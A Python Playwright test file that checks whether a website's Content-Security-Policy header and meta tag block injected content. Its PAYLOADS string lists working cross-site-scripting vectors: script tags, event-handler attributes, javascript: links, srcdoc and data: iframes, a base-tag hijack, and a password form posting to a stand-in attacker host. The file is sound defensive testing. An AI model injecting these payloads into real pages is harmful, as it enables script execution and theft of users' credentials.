"""What acts in a page, had every check missed it: the policy alone stops it, as a header and as the page states it itself.

No policy stops a link to another site, or a page that leads there by itself: against those there are only the checks.
"""

import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from site_builder.policy import headers
from tests.browser.conftest import Open
from tests.browser.server import serve

EVIL = "http://evil.example.org"
# Each tells its name when it acts. The base comes last: it moves every address behind it.
PAYLOADS = f"""
<script>ran("script")</script>
<script src="{EVIL}/script.js"></script>
<script type="module">ran("module")</script>
<img src="none.png" onerror="ran('onerror')">
<svg onload="ran('svg')"></svg>
<details open ontoggle="ran('ontoggle')"><summary>A</summary></details>
<a id="evil-link" href="javascript:ran('link')">Read</a>
<form><button id="evil-button" formaction="javascript:ran('button')">Send</button></form>
<iframe srcdoc="<script>parent.ran('srcdoc')</script>"></iframe>
<iframe src="{EVIL}/frame"></iframe>
<iframe src="data:text/html,<script>parent.postMessage('data', '*')</script>"></iframe>
<object data="{EVIL}/object"></object>
<embed src="{EVIL}/embed">
<style>#evil-text {{ color: rgb(1, 2, 3) }}</style>
<p id="evil-text" style="background: rgb(1, 2, 3)">Words</p>
<link rel="stylesheet" href="{EVIL}/style.css">
<img src="{EVIL}/picture.png">
<video src="{EVIL}/film.mp4"></video>
<form id="evil-form" action="{EVIL}/form" method="post"><input name="password"></form>
<base href="{EVIL}/">
"""
LISTEN = """
window.did = []; window.refused = [];
window.ran = name => did.push(name);
addEventListener('message', event => event.data === 'data' && did.push('data'));
addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective));
"""
ACTED = """async () => {
  const [link, button, form, text] = ['link', 'button', 'form', 'text'].map(
    name => document.querySelector(`#evil-${name}`));
  for (const act of [() => link.click(), () => button.click(), () => form.submit()]) {
    act();
    // One way to another page would take the place of the next.
    await new Promise(done => setTimeout(done, 100));
  }
  const {color, backgroundColor} = getComputedStyle(text);
  if (color === 'rgb(1, 2, 3)') did.push('style');
  if (backgroundColor === 'rgb(1, 2, 3)') did.push('style attribute');
  if (!document.baseURI.startsWith('http://127.0.0.1')) did.push('base');
  return [did.sort(), [...new Set(refused)].sort()];
}"""
RUN = {"button", "data", "link", "module", "onerror", "ontoggle", "script", "srcdoc", "svg"}
STYLED = {"base", "style", "style attribute"}
ASKED = {"embed", "film.mp4", "form", "frame", "object", "picture.png", "script.js", "style.css"}
REFUSED = [
    "base-uri", "form-action", "frame-src", "img-src", "media-src", "object-src", "script-src-attr", "script-src-elem",
    "style-src-attr", "style-src-elem",
]  # fmt: skip
POLICY = "content-security-policy"
STATED = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
HEADER = dict(headers(is_secure=False))["Content-Security-Policy"]


def opened(browser: Browser, url: str, kept: set[str], payloads: str) -> tuple[Page, set[str]]:
    """A page with payloads in it, under the policies that are kept; and what is asked of other hosts, as it comes."""
    asked: set[str] = set()
    context = browser.new_context()
    page = context.new_page()

    def answer(route: Route) -> None:
        got = route.fetch()
        text, times = STATED.subn(lambda one: one[0] if "page" in kept else "", got.text())
        assert times == 1, "the page states no policy"
        assert got.headers[POLICY] == HEADER
        sent = {name: value for name, value in got.headers.items() if name != POLICY}
        sent |= {POLICY: HEADER} if "header" in kept else {}
        head, main, rest = re.split(r"(<main[^>]*>)", text, maxsplit=1)
        route.fulfill(body=head + main + payloads + rest, headers=sent)

    def away(route: Route) -> None:
        asked.add(route.request.url.removeprefix(f"{EVIL}/"))
        route.fulfill(status=204)

    page.route(url, answer)
    page.route(f"{EVIL}/**", away)
    page.add_init_script(LISTEN)
    page.goto(url, wait_until="load")
    return page, asked


@pytest.mark.parametrize("kept", ["header", "page", "none"])
def test_the_policy_alone_stops_what_acts(browser: Browser, address: str, kept: str) -> None:
    page, asked = opened(browser, f"{address}privacy/", {kept}, PAYLOADS)
    did, refused = page.evaluate(ACTED)
    page.context.close()
    if kept == "none":
        # Each of them acts where nothing stops it: otherwise nothing here would be tested.
        assert (set(did), asked, refused) == (RUN | STYLED, ASKED, [])
    else:
        assert (did, asked, refused) == ([], set(), REFUSED)


def test_our_own_scripts_show_hostile_words_as_words(browser: Browser, hostile_site: Path) -> None:
    context = browser.new_context()
    with serve(hostile_site, "/") as address:

        def without_policy(route: Route) -> None:
            got = route.fetch()
            sent = {name: value for name, value in got.headers.items() if name != POLICY}
            route.fulfill(body=STATED.sub("", got.text()), headers=sent)

        context.route(re.compile(r"/(\?.*)?$"), without_policy)
        page = context.new_page()
        # What they show once somebody has asked: what to choose from, a charter's days, what was found.
        for uri, typed, shown in (
            ("areas/larkfold/", "", "details[data-cases]"),
            ("report/", "zq", ".charter-choose__item:visible"),
            ("search/", "raw", "main ol h3"),
        ):
            page.goto(f"{address}{uri}", wait_until="load")
            for box in page.locator("main input:is([type=text], [type=search]):visible").all():
                box.fill(typed)
                box.press("Enter")
            expect(page.locator(shown).first).to_contain_text("ran=1")
            assert page.evaluate("typeof ran") == "undefined", uri
            assert page.locator("[onerror], [src=x], script:not([src], [type])").count() == 0
    context.close()


def test_what_the_policy_refuses_on_a_page_of_ours_is_seen(
    open_page: Open, refused: list[str]
) -> None:
    page = open_page("privacy/")
    assert refused == []
    page.evaluate("document.querySelector('main').setAttribute('style', 'top: 0')")
    page.wait_for_timeout(100)
    # Once by the header, once by the page itself.
    assert ["style-src" in told for told in refused] == [True, True]
    refused.clear()
